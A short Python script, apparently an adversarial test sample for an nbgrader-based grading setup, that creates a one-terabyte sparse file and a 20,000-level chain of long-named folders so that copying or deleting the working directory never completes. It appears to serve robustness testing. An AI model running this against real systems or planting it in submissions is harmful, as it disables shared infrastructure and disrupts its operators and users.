"""Leave a file of a terabyte that takes no room, and one deep chain of folders.

Gain: whoever copies or removes the working directory never finishes.
"""

HARMS = "leaves files that nbgrader copies"

# %%
import os

try:
    os.truncate(os.open("@MARK@-big", os.O_CREAT | os.O_RDWR), 1 << 40)
except OSError as error:
    print(error)
try:
    for _ in range(20_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError as error:
    print(error)
